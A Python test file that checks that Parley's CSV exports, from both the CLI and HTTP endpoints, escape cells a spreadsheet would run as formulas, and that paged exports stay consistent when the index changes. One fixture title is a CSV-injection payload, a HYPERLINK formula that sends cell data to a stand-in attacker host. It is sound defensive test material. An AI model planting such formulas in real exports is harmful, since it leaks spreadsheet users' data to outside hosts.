"""What Parley writes for other programs, read the way they read it.

    csv_test.py BUILD_DIR

A small archive of hostile text (cells a spreadsheet would run as formulas, quotes, commas,
line breaks) exported by parley-analyze and by GET /analyze/export and the views'
format=csv: each CSV read back with Python's csv module, cell by cell. Then GET
/analyze/export paged through its Link headers while an article is added between pages; an
export by date against parley-search by date.
"""
import atexit, csv, io, json, os, re, shutil, subprocess, sys, tempfile, urllib.error
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from checks import check, finish, run  # noqa: E402

build = sys.argv[1]
index_bin = os.path.join(build, "indexer", "parley-index")
analyze_bin = os.path.join(build, "searcher", "parley-analyze")
serve_bin = os.path.join(build, "server", "parley-serve")


def rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


work = tempfile.mkdtemp(prefix="parley-csv-test-")
atexit.register(shutil.rmtree, work, ignore_errors=True)
archive = os.path.join(work, "hostile.jsonl")
articles = [
    {"id": "f1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
     "authors": ["@Ann Lee"], "date": "2023-05-01", "source": "+Daily",
     "paragraphs": ["=1+1 is what the minister said about China.",
                    "-2+3 counts the ships near China."]},
    {"id": "f2", "title": "Plain, with \"quotes\"", "authors": ["Bo Chen"], "date": "2023-05-02",
     "source": "Weekly", "paragraphs": ["China, a comma and a \"quote\" in the text."]},
    {"id": "f3", "title": "-Ships", "date": "2023-05-03",
     "paragraphs": ["What the minister said of the ships near China: =2 counts."]},
]
with open(archive, "w") as f:
    for a in articles:
        f.write(json.dumps(a) + "\n")
index = os.path.join(work, "index")
run([index_bin, "--index", index, "--quiet", archive])


def export(fmt, *options):
    return run([analyze_bin, "export", "--index", index, "--format", fmt, "--sort", "date-asc",
                *options, "China"]).stdout


# --- formulas: a text cell a spreadsheet would run gets a leading ' -----------------------
exported = rows(export("csv"))
by_paragraph = {(r["article_id"], r["paragraph"]): r for r in exported}
first, second = by_paragraph[("f1", "1")], by_paragraph[("f1", "2")]
check(first["title"] == "'" + articles[0]["title"] and first["authors"] == "'@Ann Lee" and
      first["source"] == "'+Daily" and first["text"] == "'=1+1 is what the minister said "
      "about China." and second["text"].startswith("'-2+3"),
      "export --format csv: title, author, source and text starting with = @ + - get a "
      "leading ' (%r)" % first["title"])
check(by_paragraph[("f2", "1")]["title"] == "Plain, with \"quotes\"",
      "export --format csv: other text as it is, quotes and commas read back")
kept = {(r["article_id"], r["paragraph"]): r for r in rows(export("csv", "--no-escape-formulas"))}
check(kept[("f1", "1")]["title"] == articles[0]["title"] and
      kept[("f1", "1")]["text"].startswith("=1+1") and kept[("f1", "2")]["text"].startswith("-2+3"),
      "--no-escape-formulas: the text as it is")
ndjson = [json.loads(l) for l in export("ndjson").splitlines()]
check(all(h["title"] == articles[0]["title"] for h in ndjson if h["article_id"] == "f1"),
      "NDJSON is never changed")
context = rows(run([analyze_bin, "context", "--index", index, "--format", "csv", "f1", "1"]).stdout)
check(context[0]["text"].startswith("'=1+1"), "context --format csv: escaped as export is")
# Context rows say whose paragraphs they are, as export's do (they had no article columns).
check(all(r["article_id"] == "f1" and r["title"] == "'" + articles[0]["title"] and
          r["date"] == by_paragraph[("f1", "1")]["date"] for r in context) and context,
      "context --format csv: each row names its article, title and date (%s)" % context)
context_ndjson = [json.loads(l) for l in run([analyze_bin, "context", "--index", index, "--format",
                                              "ndjson", "f1", "1"]).stdout.splitlines()]
check(context_ndjson and all(r["article_id"] == "f1" and r["title"] == articles[0]["title"]
                             for r in context_ndjson),
      "context --format ndjson: each row names its article (%s)" % context_ndjson)
authors = rows(run([analyze_bin, "stands-out", "--index", index, "--format", "csv", "--field",
                    "author", "--min-count", "1", "--background", "text", "China"]).stdout)
check(any(r["author"] == "'@Ann Lee" for r in authors),
      "stands-out --format csv: a value starting with @ escaped (%s)" % authors)

# --- by date, an export's scores are search's: they order the hits of one date -----------
search_bin = os.path.join(build, "searcher", "parley-search")
for order in ("date", "date-asc", "relevance"):
    searched = json.loads(run([search_bin, "--index", index, "--json", "--sort", order, "-n", "50",
                               "--", "China ships minister"]).stdout)["hits"]
    exported = [json.loads(l) for l in run([analyze_bin, "export", "--index", index, "--format",
                                            "ndjson", "--sort", order, "--",
                                            "China ships minister"]).stdout.splitlines()]
    fields = lambda hits: [(h["article_id"], h["paragraph"], round(h["score"], 9),
                            h["matched_terms"]) for h in hits]
    check(fields(exported) == fields(searched) and all(h["score"] > 0 for h in exported),
          "export --sort %s: the hits, scores and matched words of parley-search --sort %s (%s)"
          % (order, order, fields(exported)[:2]))

# --- the same over HTTP ---------------------------------------------------------------
server = subprocess.Popen([serve_bin, "--index", index, "--listen", "127.0.0.1:0"],
                          stdout=subprocess.PIPE, text=True)
try:
    port = re.search(r"127\.0\.0\.1:(\d+)/", server.stdout.readline()).group(1)

    def get(target):
        with urllib.request.urlopen("http://127.0.0.1:%s%s" % (port, target), timeout=60) as r:
            return r.headers, r.read().decode()

    _, body = get("/analyze/export?q=China&sort=date-asc&format=csv")
    check(body == export("csv"), "GET /analyze/export?format=csv: the CLI's CSV, escaped")
    _, body = get("/analyze/export?q=China&sort=date-asc&format=csv&escape_formulas=false")
    check(body == export("csv", "--no-escape-formulas"),
          "GET /analyze/export?escape_formulas=false: the CLI's --no-escape-formulas")
    _, body = get("/analyze/context?article=f1&paragraph=1&format=csv")
    check(rows(body)[0]["text"].startswith("'=1+1"), "GET /analyze/context?format=csv: escaped")
    check(rows(body) == context, "GET /analyze/context?format=csv: the CLI's rows")
    # more-like's hits as rows, as parley-analyze more-like --format csv prints them.
    cli = run([analyze_bin, "more-like", "--index", index, "--format", "csv", "-n", "5", "f1",
               "1"]).stdout
    _, body = get("/analyze/more-like?article=f1&paragraph=1&limit=5&format=csv")
    check(body == cli and ("f3", "1") in [(r["article_id"], r["paragraph"]) for r in rows(body)]
          and rows(body)[0]["title"].startswith("'-"),
          "GET /analyze/more-like?format=csv: the CLI's CSV, escaped (%r)" % body[-120:])
    _, body = get("/analyze/more-like?article=f1&paragraph=1&limit=5&format=ndjson")
    cli = run([analyze_bin, "more-like", "--index", index, "--format", "ndjson", "-n", "5", "f1",
               "1"]).stdout
    check(body == cli, "GET /analyze/more-like?format=ndjson: the CLI's NDJSON")

    # --- a cursor across an index update: refused (409), never repeating or losing hits ---
    def page_keys(body):
        return [(h["article_id"], h["paragraph"]) for h in map(json.loads, body.splitlines())]

    def pages(target):
        keys, count = [], 0
        while target:
            headers, body = get(target)
            keys += page_keys(body)
            count += 1
            link = headers.get("Link")
            target = re.match(r"<([^>]+)>", link).group(1) if link else None
        return keys, count

    whole = [(h["article_id"], h["paragraph"]) for h in ndjson]
    paged, count = pages("/analyze/export?q=China&sort=date-asc&size=1")
    check(paged == whole and count == len(whole) == 4,
          "unchanged index: 4 pages of 1 through Link rel=next, the CLI's export (%s)" % paged)
    headers, body = get("/analyze/export?q=China&sort=date-asc&size=1")
    link = re.match(r"<([^>]+)>", headers["Link"]).group(1)
    check("after=f1%23" in link, "the Link names the page's last hit: %s" % link)
    earlier = os.path.join(work, "earlier.jsonl")
    with open(earlier, "w") as f:
        f.write(json.dumps({"id": "e0", "title": "Earlier", "date": "2022-01-01",
                            "paragraphs": ["China, earlier than the rest."]}) + "\n")
    run([index_bin, "--index", index, "--quiet", earlier])
    try:
        get(link)
        status, error = 200, ""
    except urllib.error.HTTPError as e:
        status, error = e.code, json.loads(e.read().decode())["error"]
    check(status == 409 and "index changed since the previous page" in error and
          "cursor=0" in error,
          "an article added before the cursor: the next page is refused with 409, saying to "
          "start again (%d %r)" % (status, error))
    paged, _ = pages("/analyze/export?q=China&sort=date-asc&size=2")
    check(paged[0] == ("e0", 1) and len(paged) == len(set(paged)) == len(whole) + 1,
          "exported again from cursor 0: every hit once, the new one first")
    try:
        get("/analyze/export?q=China&after=f1%231")
        status = 200
    except urllib.error.HTTPError as e:
        status = e.code
    check(status == 400, "after= without a cursor: 400")
finally:
    server.terminate()
    server.wait(timeout=30)

finish()
